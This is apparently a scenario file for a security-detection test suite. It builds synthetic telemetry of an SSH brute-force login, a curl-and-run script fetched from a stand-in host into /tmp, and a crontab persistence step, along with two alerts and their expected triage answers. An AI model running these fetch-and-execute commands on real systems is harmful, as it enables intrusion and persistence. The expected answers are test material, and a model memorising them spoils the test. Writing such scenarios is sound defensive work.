"""web-01 is guessed open over SSH, and the intruder leaves a cron job that fetches and runs a script.

Two alerts: the guessing, named by its address and account alone (T1110), and the cron job by its process
(T1053.003, T1105).
"""

from local.incidents.case import Case, Expectation, ip_evidence, process_evidence, user_evidence
from local.incidents.programs import program
from local.incidents.stage import Stage, attacker, clock, later
from local.incidents.world import File, Process, local_account

_ADDRESS = "198.51.100.77"
_INCIDENT = 1043
_TAG = ("ssh guessing",)
_DEPLOY = local_account("deploy", "web-01", 1_000)


def tell(stage: Stage) -> None:
    """Records the guessing, the session and the cron job; raises two alerts."""
    session = _guess(stage)
    _leave_cron_job(stage, session)


def _guess(stage: Stage) -> Process:
    """Nine connections of three guesses each, every one with an sshd of its own; the tenth gets in."""
    record, listener = stage.recorder, stage.estate.resident("web-01", "sshd")
    sshd, moment = program("linux", "sshd"), clock("05:10:02.4417")
    wrong = [local_account(name, "web-01", 0) for name in ("root", "admin", "deploy")]
    for _ in range(9):
        knock = record.start(listener, sshd, "sshd: unknown [priv]", at=moment, is_root=True)
        for count, who in enumerate(wrong):
            record.logon(
                knock,
                later(moment, 1.1 + count * 2.05 + stage.chance.number(0, 0.5)),
                "LogonFailed",
                who,
                ip=_ADDRESS,
                failure="InvalidUserNameOrPassword",
                about=_TAG,
            )
        moment = later(moment, 19.6 + stage.chance.number(0, 4))
    session = record.start(
        listener, sshd, "sshd: deploy [priv]", at=moment, is_root=True, life=20 * 60 * 10**7
    )
    record.logon(
        session,
        later(moment, 2.3310094),
        "LogonSuccess",
        _DEPLOY,
        ip=_ADDRESS,
        about=_TAG,
        kind="RemoteInteractive",
    )
    _alert_on_guessing(stage, session, moment)
    return session


def _alert_on_guessing(stage: Stage, session: Process, moment: int) -> None:
    stage.raise_alert(
        Case(
            title="Successful logon after SSH brute force",
            description="An address that had failed many times logged on.",
            severity="High",
            category="CredentialAccess",
            device=session.device,
            first=clock("05:10:03.5"),
            last=later(moment, 2.4),
            created=later(moment, 151.7720113),
            evidence=(ip_evidence(_ADDRESS), user_evidence(_DEPLOY)),
            expected=Expectation(
                "Address",
                "Confirmed",
                "The address failed 27 times, then logged on, and the session acted.",
                about=_TAG[0],
                techniques=("T1110",),
            ),
            incident=_INCIDENT,
            techniques=("T1110.001",),
            source="WindowsDefenderAtp",
            user=_DEPLOY,
        )
    )


def _leave_cron_job(stage: Stage, session: Process) -> None:
    record, born = stage.recorder, later(session.created, 2.9)
    shell = record.start(
        session, program("linux", "bash"), "-bash", at=born, account=_DEPLOY, life=15 * 60 * 10**7
    )
    for line, after in (("id", 4.1), ("uname -a", 6.6), ("sudo -l", 9.8)):
        record.start(shell, program("linux", line.split()[0]), line, at=later(born, after))
    script = stage.drop(attacker(".cache.sh", "/tmp"))  # noqa: S108 - a path in a made-up recording
    worker = record.start(
        shell,
        program("linux", "bash"),
        "bash -c curl -s http://192.0.2.66/c.sh -o /tmp/.cache.sh",
        at=later(born, 31),
    )
    curl = record.start(
        worker,
        program("linux", "curl"),
        "curl -s http://192.0.2.66/c.sh -o /tmp/.cache.sh",
        at=later(born, 31.0117),
    )
    record.network(curl, later(born, 31.4), ip="192.0.2.66", port=80, url="http://192.0.2.66/c.sh")
    record.file(curl, later(born, 31.9), "FileCreated", script)
    record.start(worker, program("linux", "chmod"), "chmod +x /tmp/.cache.sh", at=later(born, 32.6))
    run = record.start(worker, program("linux", "bash"), "bash /tmp/.cache.sh", at=later(born, 33.2))
    tab = record.start(run, program("linux", "crontab"), "crontab -", at=later(born, 33.7))
    spool = File("deploy", "/var/spool/cron/crontabs")
    record.file(tab, later(born, 33.9012), "FileModified", stage.drop(spool))
    record.network(run, later(born, 190.6), ip="192.0.2.66", port=8_443)
    _alert_on_cron_job(stage, tab, worker, born)


def _alert_on_cron_job(stage: Stage, tab: Process, worker: Process, born: int) -> None:
    stage.raise_alert(
        Case(
            title="Suspicious cron job creation",
            description="A script fetched from the internet wrote a crontab.",
            severity="Medium",
            category="Persistence",
            device=worker.device,
            first=worker.created,
            last=later(born, 34),
            created=later(born, 170.0412207),
            evidence=(process_evidence(worker), process_evidence(tab), user_evidence(_DEPLOY)),
            expected=Expectation(
                "ExactProcess",
                "Confirmed",
                "The fetched script ran, wrote the crontab, and called out again after the alert.",
                anchors=(worker, tab),
                techniques=("T1053.003", "T1105"),
            ),
            incident=_INCIDENT,
            techniques=("T1053.003",),
            user=_DEPLOY,
        )
    )
